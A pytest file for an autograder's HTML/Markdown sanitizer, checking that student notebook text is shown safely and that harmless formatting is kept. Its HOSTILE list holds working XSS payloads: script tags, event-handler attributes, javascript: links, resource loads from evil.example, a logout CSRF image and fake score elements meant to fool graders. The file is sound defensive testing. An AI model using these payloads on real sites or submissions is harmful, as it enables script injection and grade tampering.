"""Students' text for a browser: honest text stays as it is, and nothing that acts remains."""

from __future__ import annotations

import base64
import re
import time

import pytest
from bs4 import BeautifulSoup

from autograder import markup

PIXEL = (  # a PNG of one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk"
    "Jggg=="
)
PICTURE = f"data:image/png;base64,{PIXEL}"

HONEST = [
    "",
    "Just text, 3 < 4 > 2, and & too",
    "# Titre *é*\n\n## A & B \"q\"\n\n- a\n- b\n\n1. x\n3. y\n\n> quote\n\n---\n",
    "Math: $a<b$, $x_{<i}$, $$\\sum_{i<n} a_i \\& b$$, \\\\(a<b\\\\), [link]",
    "\\begin{align}\na &< b \\\\\nc &= d\n\\end{align}\n\n<b>and</b> so on",
    "[link](https://example.org/?a=1&b=2 \"title\") and <https://example.org>",
    "![plot](images/plot.png \"a plot\") ![](plot%201.png)",
    f"![]({PICTURE})",
    "```python\nprint('<script>alert(1)</script>')\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>\n\nand `<script>alert(2)</script>` [here]",
    "| a | b |\n|:--|--:|\n| 1 | <i>2</i> |",
    "line<br>line<br/>line <b>bold</b> <sub>2</sub> <font color=\"red\">red</font>",
    "<details>\n<summary>more</summary>\n\n*b*\n\n</details>",
    "<center>in the middle</center>",
    "<img src=\"fig.png\" width=\"300\">",
    "<span style=\"color:red\">red</span>",
    "a &lt;script&gt; b <i>c</i>",
    "<div align=\"center\">\n\n# Title\n\n</div>",
]  # fmt: skip


@pytest.mark.parametrize("text", HONEST)
def test_honest_markdown_is_not_changed(text):
    assert markup.markdown(text) == text


HOSTILE = [
    "<script>boom()</script>",
    "a <script src=//evil.example/x.js></script> b",
    "[x](javascript:boom())",
    "[x]: javascript:boom()\n\n[x]",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='&#106;avascript:boom()'>x</a>",
    "<a href=\"java\tscript:boom()\">x</a>",
    "<img src=x onerror=boom()>",
    "<svg onload=boom()></svg>",
    "<svg><style><img src=x onerror=boom()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
    "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "<noscript><p title=\"</noscript><img src=x onerror=boom()>\">",
    "<style>@import url(//evil.example/x.css)</style>",
    "<p style=\"background:url(//evil.example/x.png)\">x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "![](http://evil.example/x.png)",
    "![](//evil.example/x.png)",
    "![](\\\\\\\\evil.example/x.png)",
    "![](/logout)",
    "![](../../hub/logout)",
    "<img src=\"/logout\">",
    "<img srcset='//evil.example/x.png 2x' src=a.png>",
    "<video src=//evil.example/v></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=score value=20></form>",
    "<div class=\"nbgrader_cell\"><button class=\"full-credit\">x</button></div>",
    "<div id=\"test1\">x</div>",
    "</div></div></div><h1>Score: 20/20</h1>",
    "```mermaid\n</pre><script>boom()</script>\n```",
    "<!--><script>boom()</script>-->",
    "<!-- --!><img src=x onerror=boom()> -->",
    "<![CDATA[<script>boom()</script>]]>",
    "<?php <script>boom()</script> ?>",
    "<textarea><img src=x onerror=boom()></textarea>",
    "<title><img src=x onerror=boom()></title>",
    "<xmp><img src=x onerror=boom()></xmp>",
    "<plaintext><img src=x onerror=boom()>",
    "<div><!--\n\n--><img src=x onerror=boom()></div>",
    "<b <script>boom()</script>",
    "<img alt=\"\n\n\" src=x onerror=boom()>",
    "![](attachment:missing.png) <img src=x onerror=boom()>",
    "![](data:image/svg+xml;base64,\" onerror=boom())",
    "$<img src=x onerror=boom()>$ [a]\n\n<img src=x onerror=boom()>",
    "<details open ontoggle=boom()>x</details>",
    "<x-y><script>boom()</script>",
    "<template><script>boom()</script></template>",
    "<table><script>boom()</script></table>",
]  # fmt: skip


def acts(html: str) -> list[str]:
    """What could act in it, as the parser sees it that nbconvert puts every page through."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all():
        if tag.name not in markup._TAGS:
            found.append(tag.name)
        for name, value in tag.attrs.items():
            allowed = {"src": FILE, "href": LINK, "class": CLASS, "id": HEADING}.get(name, HARMLESS)
            if name not in NAMES or not allowed.fullmatch("".join(value)):
                found.append(f"{tag.name}.{name}={value}")
    return found


NAMES = {"src", "href", "class", "id", "alt", "title", "style", "width", "height", "align", "open"}
FILE = re.compile(r"(?!.*\.\.)[\w%.][\w%./-]*|data:image/(png|svg\+xml);base64,[\w+/=]*")
LINK = re.compile(r"https?://.*|#.*")
CLASS = re.compile(r"highlight|anchor-link|\w{0,3}")
HEADING = re.compile(r"(?!test)[\w%:/.-]*")
HARMLESS = re.compile(r"(?!.*(url|position)).*", re.DOTALL)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_hostile_markdown_acts(text):
    """In a browser: see test_autograded."""
    safe = markup.markdown(text)
    shown = markup._rendered(safe, {})
    assert acts(shown) == []
    assert safe == markup.markdown(safe)


def test_the_same_text_acts_without_us():
    """Or the test above could not fail."""
    harmless = [text for text in HOSTILE if not acts(markup._rendered(text, {}) or "<script>")]
    assert len(harmless) < len(HOSTILE) / 5, harmless


def test_a_remark_is_taken_out_and_the_rest_stays():
    text = "# Title\n\n<!-- remark\nof two lines -->\n\nSome *text* [a](https://b.example)"
    assert markup.markdown(text) == text.replace("<!-- remark\nof two lines -->", "")


def test_what_is_left_of_mixed_text_still_reads_well():
    safe = markup.markdown("# Title\n\n*a* $x<y$\n\n```\nb\n\nc\n```\n<script>boom()</script>")
    assert "\n" not in safe
    assert '<h1 id="Title">' in safe
    assert "<em>a</em> $x&lt;y$" in safe
    assert "b&#10;&#10;c" in safe
    assert "boom" not in safe


def test_an_attachment_that_is_not_there_breaks_nothing():
    assert markup.markdown("![plot](attachment:a.png)") == "![plot](a.png)"


def test_an_attachment_that_is_there_stays():
    text = "![plot](attachment:a.png)"
    assert markup.markdown(text, {"a.png": {"image/png": PIXEL}}) == text


def test_too_much_to_look_at_is_shown_as_text():
    safe = markup.markdown("<b>a</b>\n\n" * 2_000)
    assert safe.startswith("<pre>&lt;b&gt;a&lt;/b&gt;&#10;&#10;")
    assert markup.markdown("word " * 10_000) == "word " * 10_000


@pytest.mark.parametrize(
    "text",
    ["<div>" * 200, "<ul><li>" * 200, "<h1><b>" * 150, "<B><I>" * 100, "<div></b>" * 150],
)
def test_elements_too_deep_in_one_another(text):
    assert markup.html(text) == ""


def test_many_elements_beside_one_another():
    table = "<table>" + "<tr><td>1<td>2" * 500 + "</table>"
    assert markup.html(table).count("<td>") == 1_000
    assert markup.html("<p>a<br>" * 1_000).count("<p>") == 1_000


@pytest.mark.parametrize("piece", ["<div>", "<ul><li>", "<h1><b>", "<table><tr><td></div>", "<a "])
def test_hostile_html_takes_no_time(piece):
    start = time.perf_counter()
    markup.html(piece * (markup.MAX_HTML // len(piece)))
    assert time.perf_counter() - start < 5


@pytest.mark.parametrize(
    "piece", ["[", "\\\\(", "*a ", "`a``", "> ", "\\begin{a}", "<a b='", "![]("]
)
def test_hostile_markdown_takes_no_time(piece):
    start = time.perf_counter()
    markup.markdown("<]" + piece * ((markup.MAX_MARKDOWN - 2) // len(piece)))
    assert time.perf_counter() - start < 10


def test_html_of_a_table():
    table = '<table border="1" class="dataframe"><tbody><tr><th>0</th></tr></tbody></table>'
    style = "<style scoped>.dataframe { color: red }</style>"
    assert markup.html(f"<div>{style}{table}</div>") == f"<div>{table}</div>"


def test_pictures_in_html():
    assert markup.html(f'<img src="{PICTURE}">') == f'<img src="{PICTURE}">'
    for data in ("data:image/png;base64,AAAA", "data:text/html;base64,AAAA", PICTURE + "!"):
        assert markup.html(f'<img src="{data}">') == "<img>"


def test_the_size_of_a_picture():
    assert markup.html('<img width="30%" height="4px">') == '<img width="30%" height="4px">'
    assert markup.html('<img width="expression(1)">') == "<img>"


def test_a_drawing_is_an_image():
    image = markup.svg("<svg><script>boom()</script></svg>")
    assert markup.html(image) == image.replace(' alt=""', ' alt=""')
    assert "<svg" not in image
    data = image.partition("base64,")[2].partition('"')[0]
    assert base64.b64decode(data).startswith(b"<svg>")
    assert markup.svg("<svg>" + " " * markup.MAX_SVG) == ""


@pytest.mark.parametrize(
    ("text", "safe"),
    [("$a < b$", "$a < b$"), ("$a<b$", "$a\\lt b$"), ("</div><script>", "\\lt /div>\\lt script>")],
)
def test_formulas(text, safe):
    assert markup.latex(text) == safe


def test_plain_text_keeps_colours_and_loses_the_rest():
    colours = "\x1b[31mred\x1b[0m\ttab\r\n\x1b[1;38;5;28mgreen\x1b[39m"
    assert markup.plain(colours) == colours
    assert (
        markup.plain("a\x1b]52;c;AAAA\x07b\x00\x08\x9b31m\x7f\ud800c\x1b[2J")
        == "a]52;c;AAAAb31mc[2J"
    )


def test_a_raw_cell():
    assert markup.raw("a & b") == "a & b"
    assert markup.raw("<b>&") == "&lt;b&gt;&amp;"
